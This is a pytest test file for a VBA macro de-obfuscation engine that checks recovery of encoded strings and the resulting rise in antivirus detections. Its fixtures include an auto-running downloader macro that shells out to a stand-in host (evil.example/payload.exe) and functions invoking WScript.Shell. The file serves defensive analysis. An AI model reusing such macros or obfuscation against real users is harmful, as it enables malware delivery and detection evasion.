"""Tests for the static de-obfuscation engine."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.avsim.virustotal import VirusTotalSim
from repro.deobfuscation import deobfuscate
from repro.obfuscation.encode import STRATEGIES, StringEncoder
from repro.obfuscation.pipeline import ObfuscationPipeline, default_pipeline
from repro.obfuscation.split import StringSplitter
from repro.vba.interpreter import run_function
from repro.vba.parser import parse_module

DOWNLOADER = (
    "Sub Document_Open()\n"
    "    Dim u As String\n"
    '    u = "http://evil.example/payload.exe"\n'
    "    Shell u, 0\n"
    "End Sub\n"
)

PURE_FUNCTION = (
    "Function BuildTarget(host)\n"
    "    Dim scheme As String\n"
    '    scheme = "http://"\n'
    '    BuildTarget = scheme & host & "/update.exe"\n'
    "End Function\n"
)


class TestBasicFolding:
    def test_concat_folds(self):
        result = deobfuscate('Sub A()\n    x = "ab" & "cd" & "ef"\nEnd Sub\n')
        assert '"abcdef"' in result.source
        assert result.report.folded_expressions >= 2

    def test_chr_chain_folds(self):
        result = deobfuscate(
            "Sub A()\n    x = Chr(104) & Chr(105)\nEnd Sub\n"
        )
        assert '"hi"' in result.source

    def test_replace_marker_folds(self):
        result = deobfuscate(
            'Sub A()\n    x = Replace("savteRKtofilteRK", "teRK", "e")\nEnd Sub\n'
        )
        assert '"savetofile"' in result.source

    def test_const_inlining(self):
        source = (
            'Public Const pzonde = "e"\n'
            "Sub A()\n"
            '    x = "WScript.Sh" & pzonde & "ll"\n'
            "End Sub\n"
        )
        result = deobfuscate(source)
        assert '"WScript.Shell"' in result.source
        assert result.report.consts_inlined == 1
        # The now-dead const declaration is dropped.
        assert "pzonde" not in result.source

    def test_module_variables_are_not_their_declared_value(self):
        # Any procedure may have written ``g`` before this code runs; the
        # Optional parameter keeps the header unparsed, so the body runs
        # as module-level code.
        source = (
            "Dim g\n"
            "Function Show(ByVal s As String, Optional n As Long = 1)\n"
            '    y = g & "-seen"\n'
            "End Function\n"
            "Sub Other()\n"
            '    z = g & "-seen"\n'
            "End Sub\n"
        )
        result = deobfuscate(source)
        assert 'y = g & "-seen"' in result.source
        assert 'z = g & "-seen"' in result.source

    def test_callees_and_member_bases_stay_expressions(self):
        source = (
            "Function F(x)\n"
            '    F = x & "-out"\n'
            "End Function\n"
            "Sub A()\n"
            "    Dim o\n"
            "    y = o.Bar\n"
            '    F "in"\n'
            "End Sub\n"
        )
        result = deobfuscate(source)
        assert "y = o.Bar" in result.source
        assert 'F "in"' in result.source
        assert "Function F(x)" in result.source

    def test_numeric_folding(self):
        result = deobfuscate("Sub A()\n    x = 2 + 3 * 4\nEnd Sub\n")
        assert "14" in result.source

    def test_out_of_subset_statements_preserved_verbatim(self):
        source = "Sub A()\n    GoTo somewhere\n    x = 1 + 2\nEnd Sub\n"
        result = deobfuscate(source)
        # Tolerant parsing keeps the unknown statement and still folds the
        # rest of the procedure.
        assert "GoTo somewhere" in result.source
        assert "x = 3" in result.source

    def test_structurally_broken_input_returned_unchanged(self):
        broken = "Sub A()\n    x = 1\n"  # missing End Sub
        result = deobfuscate(broken)
        assert result.source == broken
        assert not result.report.parsed
        assert result.report.error

    def test_normal_code_mostly_unchanged(self):
        source = (
            "Sub Tidy()\n"
            "    Dim i As Long\n"
            "    For i = 1 To 10\n"
            "        Cells(i, 1).Value = i\n"
            "    Next i\n"
            "End Sub\n"
        )
        result = deobfuscate(source)
        assert "For i = 1 To 10" in result.source
        assert result.report.decoder_calls_evaluated == 0


class TestDecoderEvaluation:
    @pytest.mark.parametrize("strategy", STRATEGIES)
    def test_every_encoding_strategy_is_reversed(self, strategy):
        from repro.obfuscation.base import make_context

        encoder = StringEncoder(strategies=(strategy,))
        obfuscated = encoder.apply(DOWNLOADER, make_context(3))
        result = deobfuscate(obfuscated)
        assert "http://evil.example/payload.exe" in result.source

    def test_decoder_functions_removed_after_evaluation(self):
        from repro.obfuscation.base import make_context

        encoder = StringEncoder(strategies=("base64",))
        obfuscated = encoder.apply(DOWNLOADER, make_context(3))
        result = deobfuscate(obfuscated)
        assert result.report.procedures_removed
        assert "Function" not in result.source

    def test_split_plus_encode_reversed(self):
        pipeline = ObfuscationPipeline(
            [StringSplitter(hoist_const_probability=0.4), StringEncoder()]
        )
        for seed in range(5):
            obfuscated = pipeline.run(DOWNLOADER, seed=seed).source
            result = deobfuscate(obfuscated)
            assert "http://evil.example/payload.exe" in result.source, seed

    def test_full_default_pipeline_reversed(self):
        for seed in range(3):
            obfuscated = default_pipeline().run(DOWNLOADER, seed=seed).source
            result = deobfuscate(obfuscated)
            assert "http://evil.example/payload.exe" in result.source, seed

    def test_recovered_strings_reported(self):
        from repro.obfuscation.base import make_context

        obfuscated = StringEncoder(strategies=("hex",)).apply(
            DOWNLOADER, make_context(1)
        )
        result = deobfuscate(obfuscated)
        assert any(
            "payload.exe" in s for s in result.report.recovered_strings
        )

    def test_impure_functions_not_evaluated(self):
        source = (
            "Function Sneaky(x)\n"
            '    CreateObject("WScript.Shell").Run x, 0\n'
            "    Sneaky = x\n"
            "End Function\n"
            "Sub A()\n"
            '    y = Sneaky("cmd")\n'
            "End Sub\n"
        )
        result = deobfuscate(source)
        assert result.report.decoder_calls_evaluated == 0
        assert "Sneaky" in result.source


    def test_unknown_calls_make_a_function_impure(self):
        source = (
            "Function Launch(x)\n"
            "    Shell x, 0\n"
            '    Launch = x & "-done"\n'
            "End Function\n"
            "Sub A()\n"
            '    y = Launch("calc")\n'
            "End Sub\n"
        )
        result = deobfuscate(source)
        assert result.report.decoder_calls_evaluated == 0
        assert 'y = Launch("calc")' in result.source

    def test_parameter_writes_make_a_function_impure(self):
        # Arguments pass by reference: the caller sees ``arr(0)`` change.
        source = (
            "Function Stamp(arr)\n"
            '    arr(0) = "stamped"\n'
            '    Stamp = "stamp-result"\n'
            "End Function\n"
            "Sub A()\n"
            "    Dim a(1)\n"
            "    y = Stamp(a)\n"
            "End Sub\n"
        )
        assert "y = Stamp(a)" in deobfuscate(source).source

    def test_host_statements_make_a_function_impure(self):
        source = (
            "Function Noisy(x)\n"
            "    MsgBox x\n"
            '    Noisy = x & "-done"\n'
            "End Function\n"
            "Sub A()\n"
            '    y = Noisy("hello")\n'
            "End Sub\n"
        )
        result = deobfuscate(source)
        assert result.report.decoder_calls_evaluated == 0
        assert 'y = Noisy("hello")' in result.source


class TestSemanticsPreserved:
    def test_deobfuscated_macro_behaves_identically(self):
        from repro.obfuscation.base import make_context

        obfuscated = StringEncoder().apply(PURE_FUNCTION, make_context(2))
        result = deobfuscate(obfuscated)
        assert run_function(result.source, "BuildTarget", "h.example") == run_function(
            PURE_FUNCTION, "BuildTarget", "h.example"
        )

    def test_idempotence(self):
        from repro.obfuscation.base import make_context

        obfuscated = StringEncoder().apply(DOWNLOADER, make_context(4))
        once = deobfuscate(obfuscated).source
        twice = deobfuscate(once).source
        assert once == twice

    @settings(max_examples=20, deadline=None)
    @given(
        value=st.text(
            alphabet=st.characters(min_codepoint=32, max_codepoint=126, exclude_characters='"'),
            min_size=6,
            max_size=40,
        ),
        seed=st.integers(min_value=0, max_value=2**31),
    )
    def test_any_encoded_string_recovered(self, value, seed):
        from repro.obfuscation.base import make_context

        source = f'Sub A()\n    x = "{value}"\nEnd Sub\n'
        obfuscated = StringEncoder(min_length=4).apply(source, make_context(seed))
        result = deobfuscate(obfuscated)
        assert value in result.source


class TestTotality:
    """Hostile shapes come back as a result, never as an exception."""

    def test_deep_concat_chain_folds(self):
        terms = " & ".join(['"ab"'] * 5000)
        result = deobfuscate(f"Sub A()\n    x = {terms}\nEnd Sub\n")
        assert result.report.parsed
        assert '"' + "ab" * 5000 + '"' in result.source

    def test_deep_unfoldable_chain_round_trips(self):
        terms = " & ".join(["y"] * 5000)
        source = f"Sub A(y)\n    x = {terms}\nEnd Sub\n"
        result = deobfuscate(source)
        assert result.source == source
        assert deobfuscate(result.source).source == result.source

    def test_deep_statement_nesting_folds(self):
        depth = 200
        source = (
            "Sub A(y)\n" + "If y Then\n" * depth + "x = 1 + 2\n"
            + "End If\n" * depth + "End Sub\n"
        )
        result = deobfuscate(source)
        assert result.report.parsed
        assert "x = 3" in result.source

    def test_deep_parentheses_are_a_parse_failure(self):
        source = "Sub A()\n    x = " + "(" * 600 + "1" + ")" * 600 + "\nEnd Sub\n"
        result = deobfuscate(source)
        assert not result.report.parsed
        assert result.report.error
        assert result.source == source


    def test_pass_cut_short_rewrites_nothing(self, monkeypatch):
        # The step budget runs out in Burn, before Dec's own entry run:
        # Dec's body was only seen with A's argument, so rewriting it
        # would pin Dec to that one value.
        from repro.deobfuscation import engine
        from repro.resilience.budgets import SABudget

        monkeypatch.setattr(engine, "DEEP_SA_BUDGET", SABudget(max_steps=300))
        source = (
            "Sub A()\n"
            '    x = Dec("cba-fed")\n'
            "End Sub\n"
            "Sub Burn()\n"
            "    For i = 1 To 1000\n"
            "        n = n + 1\n"
            "    Next i\n"
            "End Sub\n"
            "Function Dec(s)\n"
            "    Dec = StrReverse(s)\n"
            "End Function\n"
        )
        result = deobfuscate(source)
        assert result.source == source
        assert "cut short" in result.report.error


class TestLiteralRendering:
    def test_control_characters_render_as_chr(self):
        source = (
            "Function A()\n"
            '    A = "abc" & Chr(10) & "def" & Chr(13) & Chr(9)\n'
            "End Function\n"
        )
        result = deobfuscate(source)
        assert result.report.folded_expressions
        # One statement still: no raw newline split the literal.
        assert len(parse_module(result.source).procedure("A").body) == 1
        assert run_function(result.source, "A") == "abc\ndef\r\t"
        assert deobfuscate(result.source).source == result.source

    def test_folded_control_characters_keep_precedence(self):
        source = (
            "Function F(y)\n"
            '    F = Len(("ab" & Chr(10)) + y)\n'
            "End Function\n"
        )
        once = deobfuscate(source).source
        assert run_function(once, "F", "cd") == run_function(source, "F", "cd") == 5
        assert deobfuscate(once).source == once

    def test_negative_literal_base_keeps_its_parentheses(self):
        source = "Function F(y)\n    a = 0 - 5\n    F = a ^ y\nEnd Function\n"
        once = deobfuscate(source).source
        assert "(-5) ^ y" in once
        assert run_function(once, "F", 2) == run_function(source, "F", 2) == 25


class TestLabels:
    def test_label_and_goto_survive(self):
        source = (
            "Sub A()\n"
            "    Dim i\n"
            "Again:\n"
            '    i = i + 1: s = "a" & "b"\n'
            "    If i < 3 Then GoTo Again\n"
            "End Sub\n"
        )
        once = deobfuscate(source).source
        lines = [line.strip() for line in once.splitlines()]
        assert "Again:" in lines
        assert "GoTo Again" in once
        assert "Again()" not in once
        assert 'i = i + 1: s = "ab"' in lines
        assert deobfuscate(once).source == once


class TestSignatureRecovery:
    """The operational payoff: deobfuscation restores AV detectability."""

    def test_av_detections_increase_after_deobfuscation(self):
        scanner = VirusTotalSim()
        rng = random.Random(0)
        improvements = 0
        trials = 6
        for seed in range(trials):
            from repro.corpus.malicious import generate_malicious_macro

            plain = generate_malicious_macro(rng, "word")
            obfuscated = ObfuscationPipeline(
                [StringSplitter(hoist_const_probability=0.3), StringEncoder()]
            ).run(plain, seed=seed).source
            recovered = deobfuscate(obfuscated).source
            before = scanner.scan([obfuscated]).detections
            after = scanner.scan([recovered]).detections
            if after > before:
                improvements += 1
        assert improvements >= trials * 0.5
